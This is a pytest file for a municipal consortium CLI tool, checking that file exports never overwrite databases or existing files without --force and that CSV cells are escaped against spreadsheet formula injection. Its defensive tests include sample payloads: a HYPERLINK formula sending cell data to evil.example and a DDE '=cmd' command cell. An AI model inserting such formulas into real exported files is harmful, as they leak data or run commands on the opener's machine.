"""Exports never overwrite what they did not write (issue 17, finding 2).

`handover export --out a.sqlite` used to turn the open database into a zip, `--out` onto another
consortium's database destroyed it, and `requests history --csv` did the same. Now: a SQLite
database (by its header) or its -wal/-shm is never replaced, whatever --force says; any other
existing file only with --force; every export is written to a temporary file beside the target
and renamed, so a writer that fails leaves the previous file whole and no temporary behind.
"""
from __future__ import annotations

import csv
import hashlib
import shutil
import zipfile
from pathlib import Path

import pytest

from cloudsuppress.cli import main
from cloudsuppress.errors import DomainError
from cloudsuppress.output_files import check_output, excel_safe_cell, is_sqlite_database, output_file


@pytest.fixture(scope="module")
def demo_file(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("demo") / "demo.sqlite"
    assert main(["--db", str(path), "init", "--name", "試験協議会", "--demo"]) == 0
    return path


@pytest.fixture
def demo(demo_file, tmp_path) -> Path:
    path = tmp_path / "協議会.sqlite"
    shutil.copyfile(demo_file, path)
    return path


def run(capsys, *args) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if ".part" in p.name)


# Every command that writes a file, with the --out / --csv it takes (the target is appended).
EXPORTS = {
    "handover": (["handover", "export", "--out"], ".zip"),
    "history": (["requests", "history", "R-0001", "--csv"], ".csv"),
    "template": (["requests", "export-template", "--member", "五霞町", "--out"], ".xlsx"),
    "comparison-pdf": (["export", "comparison", "--out"], ".pdf"),
    "comparison-xlsx": (["export", "comparison", "--out"], ".xlsx"),
    "minutes-pdf": (["export", "minutes", "12", "--out"], ".pdf"),
    "minutes-docx": (["export", "minutes", "12", "--out"], ".docx"),
    "notice": (["export", "costs", "--member", "常陸大宮市", "--out"], ".pdf"),
    "cost-table-pdf": (["export", "cost-table", "--out"], ".pdf"),
    "cost-table-xlsx": (["export", "cost-table", "--out"], ".xlsx"),
    "summary": (["export", "summary", "--out"], ".pdf"),
}


@pytest.mark.parametrize("kind", sorted(EXPORTS))
def test_an_export_never_replaces_a_database_even_with_force(capsys, demo, kind):
    """The open database itself where the command takes any name (handover, history); for the
    others a database file named like their output (another consortium's, 「他.pdf」)."""
    words, suffix = EXPORTS[kind]
    target = demo if kind in ("handover", "history") else demo.with_name(f"他{suffix}")
    if target != demo:
        shutil.copyfile(demo, target)
    before, open_before = digest(target), digest(demo)
    code, _, err = run(capsys, "--db", demo, *words, target, "--force")
    assert code == 1
    assert "データベースのファイルです" in err and "Traceback" not in err, err
    assert digest(target) == before and is_sqlite_database(target) and digest(demo) == open_before
    assert leftovers(demo.parent) == []


def test_handover_and_history_refuse_another_consortiums_database(capsys, demo, demo_file, tmp_path):
    other = tmp_path / "別の協議会.sqlite"
    shutil.copyfile(demo_file, other)
    other.rename(tmp_path / "別の協議会.db")  # whatever the name says: the header decides
    other = tmp_path / "別の協議会.db"
    before = digest(other)
    for words in (["handover", "export", "--out", other, "--force"], ["requests", "history", "R-0001", "--csv", other]):
        code, _, err = run(capsys, "--db", demo, *words)
        assert code == 1 and "データベースのファイルです" in err, err
    assert digest(other) == before


def test_a_databases_wal_and_shm_are_refused(tmp_path, demo):
    for tail in ("-wal", "-shm", "-journal"):
        companion = demo.with_name(demo.name + tail)
        companion.write_bytes(b"\x37\x7f\x06\x82 not ours")
        with pytest.raises(DomainError, match="データベースのファイル"):
            check_output(companion, overwrite=True)
        assert companion.read_bytes().startswith(b"\x37\x7f\x06\x82")


@pytest.mark.parametrize("kind", sorted(EXPORTS))
def test_an_existing_file_is_replaced_only_with_force(capsys, demo, tmp_path, kind):
    words, suffix = EXPORTS[kind]
    target = tmp_path / f"出力{suffix}"
    target.write_bytes(b"the secretary's own file")
    code, _, err = run(capsys, "--db", demo, *words, target)
    assert code == 1 and "すでにあります" in err and "--force" in err, err
    assert target.read_bytes() == b"the secretary's own file"
    code, out, err = run(capsys, "--db", demo, *words, target, "--force")
    assert code == 0, err
    assert target.read_bytes() != b"the secretary's own file" and target.stat().st_size > 100
    assert leftovers(tmp_path) == []


def test_notices_into_a_folder_refuse_before_writing_any(capsys, demo, tmp_path):
    folder = tmp_path / "通知"
    code, out, err = run(capsys, "--db", demo, "export", "costs", "--all", "--out", folder)
    assert code == 0, err
    written = sorted(folder.iterdir())
    assert len(written) >= 2
    first = written[0]
    first.write_bytes(b"edited by hand")
    stamps = {p.name: p.stat().st_mtime_ns for p in written}
    code, _, err = run(capsys, "--db", demo, "export", "costs", "--all", "--out", folder)
    assert code == 1 and "すでにあります" in err
    assert first.read_bytes() == b"edited by hand"
    assert {p.name: p.stat().st_mtime_ns for p in sorted(folder.iterdir())} == stamps  # nothing rewritten
    code, _, err = run(capsys, "--db", demo, "export", "costs", "--all", "--out", folder, "--force")
    assert code == 0, err
    assert first.read_bytes().startswith(b"%PDF")
    assert leftovers(folder) == []


def test_a_failing_writer_leaves_the_previous_file_whole(tmp_path):
    target = tmp_path / "比較表.xlsx"
    target.write_bytes(b"last week's sheet")

    with pytest.raises(RuntimeError):
        with output_file(target, overwrite=True) as tmp:
            assert tmp.parent == target.parent and tmp.suffix == ".xlsx" and tmp != target
            tmp.write_bytes(b"half a sh")
            raise RuntimeError("the writer broke")
    assert target.read_bytes() == b"last week's sheet"
    assert leftovers(tmp_path) == []


def test_a_file_error_names_the_target_not_the_temporary_file(tmp_path, capsys, demo, monkeypatch):
    """The writer fails on the temporary file (the folder refuses it, the disk is full): the message
    names the file the user asked for, not 「一覧.1234-abcdef.part.xlsx」."""
    import errno

    import cloudsuppress.reports.cost_table_xlsx as writer

    def refuse(path, *args, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied", str(path))

    monkeypatch.setattr(writer, "write_cost_table_xlsx", refuse)
    target = tmp_path / "一覧.xlsx"
    code, _, err = run(capsys, "--db", demo, "export", "cost-table", "--out", target)
    assert code == 1 and f"ファイルに書き込めません: {target}" in err and ".part" not in err, err
    assert "Traceback" not in err and leftovers(tmp_path) == []


# --- CSV safe in Excel (finding 10) ---------------------------------------------------------------

@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?x="&A1,"詳細")', "=cmd|' /C calc'!A0",
                                  "+81-29-000", "-2+3", "@SUM(A1:A3)", "\tタブ", "\r改行"])
def test_formula_cells_are_neutralised(cell):
    assert excel_safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["住民票の写しの交付", "R-0001", "1,500,000", "", "a=b", "メール@役場"])
def test_ordinary_cells_are_left_as_written(cell):
    assert excel_safe_cell(cell) == cell


def test_the_history_csv_writes_a_members_formula_as_text(capsys, demo, tmp_path):
    from cloudsuppress.ops import requests as request_ops
    from cloudsuppress.ops.history import export_item_history_csv
    from cloudsuppress.store.db import open_database

    evil = '=HYPERLINK("http://evil.example","開く")'
    database = open_database(demo, create=False)
    try:
        with database.session() as s, s.begin():
            item_id = request_ops.resolve_item(s, "R-0001")
            request_ops.move_item(s, item_id=item_id, to="under_review", reason=evil, by="@attacker")
        out = tmp_path / "履歴.csv"
        with database.session() as s:
            export_item_history_csv(s, item_id, out)
    finally:
        database.close()
    code, _, err = run(capsys, "--db", demo, "requests", "history", "R-0001", "--csv", tmp_path / "cli.csv")
    assert code == 0, err
    for path in (out, tmp_path / "cli.csv"):
        cells = [c for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()) for c in row]
        assert "'" + evil in cells or any(c.startswith("'=HYPERLINK") for c in cells), cells
        assert not any(c[:1] in ("=", "+", "-", "@") for c in cells), [c for c in cells if c[:1] in "=+-@"]
        assert "'@attacker" in cells


def test_the_handover_zip_is_still_whole_after_replacing(capsys, demo, tmp_path):
    out = tmp_path / "引継ぎ.zip"
    assert run(capsys, "--db", demo, "handover", "export", "--out", out)[0] == 0
    assert run(capsys, "--db", demo, "handover", "export", "--out", out, "--force")[0] == 0
    with zipfile.ZipFile(out) as zf:
        assert zf.testzip() is None and "manifest.json" in zf.namelist()
